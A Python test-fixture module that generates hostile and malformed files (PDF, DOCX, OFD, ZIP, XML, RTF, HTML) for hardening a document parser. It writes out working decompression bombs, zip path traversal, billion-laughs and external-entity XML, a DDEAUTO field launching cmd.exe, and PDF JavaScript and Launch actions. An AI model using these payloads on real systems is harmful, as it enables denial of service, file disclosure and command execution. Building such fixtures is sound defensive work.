"""Makers of files that are broken or meant to do harm, each small on disk. Nothing in them is a real notice.

``CANARY`` stands in a file that hostile inputs name: it must never be found in any output.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import cache
from itertools import pairwise
from pathlib import Path

from pdfs import FONT
from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfbase.cidfonts import UnicodeCIDFont
from reportlab.pdfgen.canvas import Canvas

CANARY = "机密金丝雀文件"
TASK = "一、2024年6月底前完成普查。（责任单位：县统计局）"
MB = 1024 * 1024

_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def png() -> bytes:
    """Return a picture of one red pixel."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


# --- PDF -------------------------------------------------------------------------------------------


def locked_pdf() -> bytes:
    """Return a PDF that opens with a password only."""
    out = io.BytesIO()
    canvas = Canvas(out, encrypt=StandardEncryption("open sesame"), invariant=1)
    canvas.drawString(72, 720, "1. Do something by 2024-06-30.")
    canvas.save()
    return out.getvalue()


def long_pdf(pages: int = 500) -> bytes:
    """Return a PDF of many pages with a numbered item on each, no two alike."""
    pdfmetrics.registerFont(UnicodeCIDFont(FONT))
    out = io.BytesIO()
    canvas = Canvas(out, invariant=1, pageCompression=1)
    places, works = "东西南北中上下左右前后内外新", "河道水库塘坝堤防泵站水闸渠道湿地"
    for number in range(1, pages + 1):
        place = places[number % len(places)] + places[number // len(places) % len(places)]
        work = works[number * 2 % len(works) :][:2]
        canvas.setFont(FONT, 14)
        canvas.drawString(72, 700 - number % 29 * 20, f"{number}. 2024年6月底前完成{place}村{work}普查。")
        canvas.drawString(72, 680 - number % 29 * 20, f"（责任单位：{place}镇人民政府）")
        canvas.showPage()
    canvas.save()
    return out.getvalue()


def pdf(objects: dict[int, str | bytes], trailer: str = "/Root 1 0 R") -> bytes:
    """Return a PDF of objects written by hand, with a right table of their places."""
    out = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, body in objects.items():
        places[number] = len(out)
        data = body if isinstance(body, bytes) else body.encode()
        out += f"{number} 0 obj\n".encode() + data + b"\nendobj\n"
    start, size = len(out), max(objects) + 1
    out += f"xref\n0 {size}\n0000000000 65535 f \n".encode()
    for number in range(1, size):
        out += f"{places.get(number, 0):010} 00000 {'n' if number in places else 'f'} \n".encode()
    out += f"trailer\n<< /Size {size} {trailer} >>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


def _stream(data: bytes, extra: str = "") -> bytes:
    return f"<< /Length {len(data)} {extra} >>\nstream\n".encode() + data + b"\nendstream"


_CATALOG = "<< /Type /Catalog /Pages 2 0 R >>"
_ONE_PAGE = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def _page(resources: str, extra: str = "") -> str:
    return (
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << {resources} >> {extra} >>"
    )


def zero_page_pdf() -> bytes:
    """Return a PDF without a page."""
    return pdf({1: _CATALOG, 2: "<< /Type /Pages /Kids [] /Count 0 >>"})


def circular_pages_pdf() -> bytes:
    """Return a PDF whose tree of pages holds itself."""
    return pdf({1: _CATALOG, 2: "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 9 >>", 3: _page(""), 4: _stream(b"")})


def circular_form_pdf() -> bytes:
    """Return a PDF whose page draws a form that draws itself, twice."""
    form = _stream(
        b"/F Do /F Do", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 5 0 R >> >>"
    )
    return pdf({1: _CATALOG, 2: _ONE_PAGE, 3: _page("/XObject << /F 5 0 R >>"), 4: _stream(b"/F Do"), 5: form})


def mutual_forms_pdf() -> bytes:
    """Return a PDF whose page draws a form that draws another twice, which draws the first one twice."""

    def form(other: int) -> bytes:
        return _stream(
            b"/F Do /F Do",
            f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F {other} 0 R >> >>",
        )

    page = _page("/XObject << /F 5 0 R >>")
    return pdf({1: _CATALOG, 2: _ONE_PAGE, 3: page, 4: _stream(b"/F Do"), 5: form(6), 6: form(5)})


def form_bomb_pdf(levels: int = 24) -> bytes:
    """Return a PDF whose page draws a form that draws ten of the next, and so on (10^levels in all)."""
    objects: dict[int, str | bytes] = {
        1: _CATALOG, 2: _ONE_PAGE, 3: _page("/XObject << /F 5 0 R >>"), 4: _stream(b"/F Do")
    }  # fmt: skip
    for number in range(5, 5 + levels):
        resources = f"/Resources << /XObject << /F {number + 1} 0 R >> >>"
        objects[number] = _stream(b"/F Do " * 10, f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] {resources}")
    objects[5 + levels] = _stream(b"0 0 9 9 re f", "/Type /XObject /Subtype /Form /BBox [0 0 9 9]")
    return pdf(objects)


def circular_table_pdf() -> bytes:
    """Return a PDF whose table of places names itself as the one before."""
    data = pdf({1: _CATALOG, 2: _ONE_PAGE, 3: _page(""), 4: _stream(b"")}, "/Root 1 0 R /Prev 0000000000")
    start = data.rindex(b"startxref\n") + 10
    place = int(data[start : data.index(b"\n", start)])
    return data.replace(b"/Prev 0000000000", b"/Prev %010d" % place)


def deep_pdf(depth: int = 100_000) -> bytes:
    """Return a PDF with arrays in arrays, as deep as asked for."""
    nested = b"<< /Type /Catalog /Pages 2 0 R /Deep " + b"[" * depth + b"]" * depth + b" >>"
    return pdf({1: nested, 2: _ONE_PAGE, 3: _page(""), 4: _stream(b"[" * depth + b"]" * depth + b" TJ")})


def pdf_bomb(size: int = 300 * MB) -> bytes:
    """Return a PDF whose page is packed twice and unpacks to ``size`` bytes of drawing."""
    packed = zlib.compress(_squeezed(b"0 0 m 9 9 l S\n", size), 9)
    return pdf({1: _CATALOG, 2: _ONE_PAGE, 3: _page(""), 4: _stream(packed, "/Filter [/FlateDecode /FlateDecode]")})


def huge_page_pdf() -> bytes:
    """Return a PDF with a page of two kilometres: painted as a picture it would not fit in any memory."""
    page = _page("").replace("[0 0 595 842]", "[0 0 6000000 6000000]")
    return pdf({1: _CATALOG, 2: _ONE_PAGE, 3: page, 4: _stream(b"0 0 600000 600000 re f")})


def active_pdf(address: str, file: Path) -> bytes:
    """Return a PDF that wants to run a script, open an address, start a program and read a file."""
    actions = f"/OpenAction << /S /JavaScript /JS (app.launchURL\\('{address}/js'\\)) >>"
    annotations = (
        f"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI ({address}/uri) >> >> "
        f"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F ({file}) >> >>] "
        f"/AA << /O << /S /SubmitForm /F << /FS /URL /F ({address}/form) >> >> >>"
    )
    external = f"<< /Length 0 /F << /FS /URL /F ({address}/stream) >> >>\nstream\n\nendstream"
    return pdf(
        {1: f"<< /Type /Catalog /Pages 2 0 R {actions} >>", 2: _ONE_PAGE, 3: _page("", annotations), 4: external}
    )


# --- Packages: DOCX, OFD, ZIP -----------------------------------------------------------------------


def package(parts: dict[str, bytes | str]) -> bytes:
    """Return a ZIP of these parts, the same bytes on every run."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as made:
        for name, content in parts.items():
            made.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _deflated(block: bytes, times: int, head: bytes = b"") -> bytes:
    """Return ``head`` and many times the same block as raw deflate data: the block is packed only once."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    first = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)  # what follows looks back on nothing
    return first + (packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)) * times + packer.flush()


def _squeezed(pattern: bytes, size: int) -> bytes:
    """Return ``size`` bytes of a pattern, packed as by ``zlib.compress``."""
    block = pattern * (MB // len(pattern))
    times, check = size // len(block), 1
    for _ in range(times):
        check = zlib.adler32(block, check)
    return b"\x78\xda" + _deflated(block, times) + struct.pack(">L", check)


@cache
def _bomb(size: int) -> tuple[bytes, int, int]:
    """Return a task and ``size`` spaces as raw deflate data, with their check sum and length."""
    head, block = TASK.encode(), b" " * MB
    check = zlib.crc32(head)
    for _ in range(size // MB):
        check = zlib.crc32(block, check)
    return _deflated(block, size // MB, head), check, len(head) + size // MB * MB


def word(document: str | None, extra: dict[str, bytes | str] | None = None, relations: str = "") -> bytes:
    """Return a DOCX with this document part; without one it unpacks to 560 MB."""
    types = (
        f'<Types xmlns="{_PACKAGE}/content-types"><Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument'
        '.wordprocessingml.document.main+xml"/></Types>'
    )
    rels = (
        f'<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="rId1" Target="word/document.xml" '
        f'Type="{_RELS}/officeDocument"/></Relationships>'
    )
    own = f'<Relationships xmlns="{_PACKAGE}/relationships">{relations}</Relationships>'
    parts = {"[Content_Types].xml": types, "_rels/.rels": rels, "word/_rels/document.xml.rels": own}
    if document is None:
        return zip_bomb("word/document.xml", others=parts)
    return package({**parts, "word/document.xml": document, **(extra or {})})


def word_document(*texts: str, prologue: str = "", body: str = "") -> str:
    """Return the document part with a paragraph for each text."""
    paragraphs = "".join(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>" for text in texts)
    return f'{prologue}<w:document xmlns:w="{_WORD}" xmlns:r="{_RELS}"><w:body>{paragraphs}{body}</w:body></w:document>'


def ofd(content: str | None, prologue: str = "", root: str = "Doc_0/Document.xml") -> bytes:
    """Return an OFD of one page with this content part; without one it unpacks to 560 MB."""
    space = 'xmlns:ofd="http://www.ofdspec.org/2016"'
    parts = {
        "OFD.xml": f'{prologue}<ofd:OFD {space} Version="1.0" DocType="OFD"><ofd:DocBody><ofd:DocInfo/>'
        f"<ofd:DocRoot>{root}</ofd:DocRoot></ofd:DocBody></ofd:OFD>",
        "Doc_0/Document.xml": f"<ofd:Document {space}><ofd:CommonData><ofd:PageArea><ofd:PhysicalBox>0 0 210 297"
        "</ofd:PhysicalBox></ofd:PageArea></ofd:CommonData><ofd:Pages>"
        '<ofd:Page ID="1" BaseLoc="Pages/Page_0/Content.xml"/></ofd:Pages></ofd:Document>',
    }
    page = "Doc_0/Pages/Page_0/Content.xml"
    return zip_bomb(page, others=parts) if content is None else package({**parts, page: content})


def ofd_page(text: str, prologue: str = "") -> str:
    """Return the content part of a page with one line of text."""
    return (
        f'{prologue}<ofd:Page xmlns:ofd="http://www.ofdspec.org/2016"><ofd:Content><ofd:Layer ID="2">'
        '<ofd:TextObject ID="3" Boundary="20 20 170 10" Font="4" Size="5">'
        f'<ofd:TextCode X="0" Y="5">{text}</ofd:TextCode></ofd:TextObject></ofd:Layer></ofd:Content></ofd:Page>'
    )


def zip_bomb(name: str = "notice.txt", size: int = 560 * MB, others: dict[str, str] | None = None) -> bytes:
    """Return a ZIP below 1 MB with a part that unpacks to ``size`` bytes, behind other parts."""
    parts = {other: (_deflated(content.encode(), 1), zlib.crc32(content.encode()), len(content.encode()))
             for other, content in (others or {}).items()} | {name: _bomb(size)}  # fmt: skip
    body = directory = b""
    for part, (packed, check, length) in parts.items():
        told = struct.pack("<5H3L2H", 20, 0, zipfile.ZIP_DEFLATED, 0, 33, check, len(packed), length, len(part), 0)
        directory += b"PK\x01\x02\x14\x00" + told + struct.pack("<3H2L", 0, 0, 0, 0, len(body)) + part.encode()
        body += b"PK\x03\x04" + told + part.encode() + packed
    count = len(parts)
    return body + directory + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), len(body), 0)


def nested_zip(levels: int = 40) -> bytes:
    """Return a ZIP in a ZIP in a ZIP."""
    data = package({"notice.txt": TASK})
    for _ in range(levels):
        data = package({"inner.zip": data, "copy.zip": data[:0]})
    return data


def crowded_zip(parts: int = 60_000) -> bytes:
    """Return a ZIP of very many small parts, put together by hand: ``zipfile`` takes ten times as long."""
    names = [b"%05d.txt" % number for number in range(parts)]
    told = struct.pack("<5H3L2H", 20, 0, zipfile.ZIP_STORED, 0, 33, zlib.crc32(b"x"), 1, 1, len(names[0]), 0)
    entries = [b"PK\x03\x04" + told + name + b"x" for name in names]
    size = len(entries[0])
    told = b"PK\x01\x02\x14\x00" + told
    directory = b"".join(told + struct.pack("<3H2L", 0, 0, 0, 0, at * size) + name for at, name in enumerate(names))
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, parts, parts, len(directory), parts * size, 0)
    return b"".join(entries) + directory + end


def overlapping_zip(parts: int = 2000, size: int = 20 * MB) -> bytes:
    """Return a ZIP whose directory lists one large part again and again under other names."""
    data = zip_bomb("a.txt", size)
    directory, end = data.index(b"PK\x01\x02"), data.rindex(b"PK\x05\x06")
    entry = data[directory:end]
    entries = b"".join(entry.replace(b"a.txt", b"%05d" % number) for number in range(parts))
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, parts, parts, len(entries), directory, 0)
    return data[:directory] + entries + tail


def climbing_zip() -> bytes:
    """Return a ZIP whose parts are named so that unpacking them would write elsewhere."""
    return package({f"{'../' * 8}tmp/climbed.txt": TASK, "/etc/climbed.txt": TASK, "..\\..\\climbed.txt": TASK})


# --- XML -------------------------------------------------------------------------------------------


def entity_bomb(root: str) -> str:
    """Return a document type in which ``&z;`` stands for ten thousand million letters."""
    names = "abcdefghijz"
    lines = [f'<!ENTITY a "{"字" * 10}">']
    lines += [f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in pairwise(names)]
    return f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE {root} [{"".join(lines)}]>'


def external_entity(root: str, target: str) -> str:
    """Return a document type in which ``&z;`` is what stands at ``target``, with a DTD from there as well."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE {root} SYSTEM "{target}" '
        f'[<!ENTITY % p SYSTEM "{target}"> %p; <!ENTITY z SYSTEM "{target}">]>'
    )


def calling_word(address: str, file: Path) -> bytes:
    """Return a DOCX with a template, a picture, a sub-document and a field from elsewhere."""
    targets = {"attachedTemplate": f"{address}/template", "image": f"{address}/image", "subDocument": file.as_uri(),
               "hyperlink": f"{address}/link", "frame": f"{address}/frame", "oleObject": file.as_uri()}  # fmt: skip
    relations = "".join(
        f'<Relationship Id="x{i}" Type="{_RELS}/{kind}" Target="{target}" TargetMode="External"/>'
        for i, (kind, target) in enumerate(targets.items())
    )
    fields = "".join(
        f'<w:p><w:fldSimple w:instr=" {field} "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
        for field in (
            f"INCLUDETEXT &quot;{file}&quot;",
            f"INCLUDEPICTURE &quot;{address}/field&quot; \\d",
            "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;",
        )
    )
    return word(word_document(TASK, body=f'<w:subDoc r:id="x2"/>{fields}'), relations=relations)


def macro_word() -> bytes:
    """Return a DOCX that carries macros (a DOCM under another name)."""
    return word(word_document(TASK), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512})


def calling_page(address: str, file: Path) -> str:
    """Return a web page that fetches from elsewhere whatever a page can fetch."""
    return f"""<!DOCTYPE html><html><head><meta charset="utf-8"><meta http-equiv="refresh" content="0;url={address}/r">
<link rel="stylesheet" href="{address}/css"><base href="{address}/"><script src="{address}/js"></script>
<script>fetch("{address}/fetch"); document.write("{CANARY[::-1]}")</script></head>
<body onload="location='{address}/onload'"><img src="{address}/img"><iframe src="{file.as_uri()}"></iframe>
<object data="{file.as_uri()}"></object><embed src="{address}/embed"><video src="{address}/video"></video>
<svg><image href="{address}/svg"/></svg><p>{TASK}</p></body></html>"""


def calling_rtf(address: str, file: Path) -> str:
    """Return an RTF with a template, a field and an object from elsewhere."""
    return (
        r"{\rtf1\ansi{\*\template " + f"{address}/rtf" + r"}{\field{\*\fldinst INCLUDEPICTURE "
        f'"{address}/picture"' + r" \\d}}{\field{\*\fldinst INCLUDETEXT "
        f'"{file}"' + r"}}\u19968?\u12289?2024\u24180?6\u26376?\u24213?\u21069?\u23436?\u25104?\par}"
    )


# --- Damage ----------------------------------------------------------------------------------------


def damaged(samples: dict[str, bytes], count: int, seed: int = 20240630) -> Iterator[tuple[str, bytes]]:
    """Yield ``count`` damaged copies of samples: bits flipped, cut, pieces moved, encodings mixed."""
    chance = random.Random(seed)  # noqa: S311  the same damage on every run
    for number in range(count):
        name = chance.choice(sorted(samples))
        how = chance.choice(sorted(DAMAGE))
        yield f"{number:04}-{how}-{name}", DAMAGE[how](samples[name], chance)


def _flip(data: bytes, chance: random.Random) -> bytes:
    out = bytearray(data)
    for _ in range(chance.choice((1, 5, 50, 500))):
        out[chance.randrange(len(out))] ^= 1 << chance.randrange(8)
    return bytes(out)


def _cut(data: bytes, chance: random.Random) -> bytes:
    return data[: chance.randrange(len(data))]


def _behead(data: bytes, chance: random.Random) -> bytes:
    return data[chance.randrange(len(data)) :]


def _hole(data: bytes, chance: random.Random) -> bytes:
    start = chance.randrange(len(data))
    length = chance.randrange(1, 2000)
    return data[:start] + bytes(length) * chance.randrange(2) + data[start + length :]


def _shuffle(data: bytes, chance: random.Random) -> bytes:
    size = chance.choice((16, 256, 1024))
    pieces = [data[at : at + size] for at in range(0, len(data), size)]
    chance.shuffle(pieces)
    return b"".join(pieces)


def _repeat(data: bytes, chance: random.Random) -> bytes:
    start = chance.randrange(len(data))
    piece = data[start : start + chance.randrange(1, 400)]
    return data[:start] + piece * chance.randrange(2, 200) + data[start:]


def _mix(data: bytes, chance: random.Random) -> bytes:
    """Put a piece in another encoding, or bytes as one takes them for another, into the middle."""
    text = data.decode("utf-8", "replace")
    middle = chance.randrange(len(text))
    first, second = chance.sample(("utf-8", "gb18030", "big5", "utf-16-le", "utf-16", "latin-1", "shift_jis"), 2)
    return text[:middle].encode(first, "replace") + text[middle:].encode(second, "replace")


def _controls(data: bytes, chance: random.Random) -> bytes:
    out = bytearray(data)
    for _ in range(chance.choice((1, 10, 100))):
        at = chance.randrange(len(out))
        out[at:at] = chance.choice((b"\0", b"\x0c", b"\r", b"\x1b[31m", b"\xe2\x80\xae", b"\xef\xbb\xbf", b"\xc2\x85"))
    return bytes(out)


DAMAGE: dict[str, Callable[[bytes, random.Random], bytes]] = {
    "flip": _flip,
    "cut": _cut,
    "behead": _behead,
    "hole": _hole,
    "shuffle": _shuffle,
    "repeat": _repeat,
    "mix": _mix,
    "controls": _controls,
}
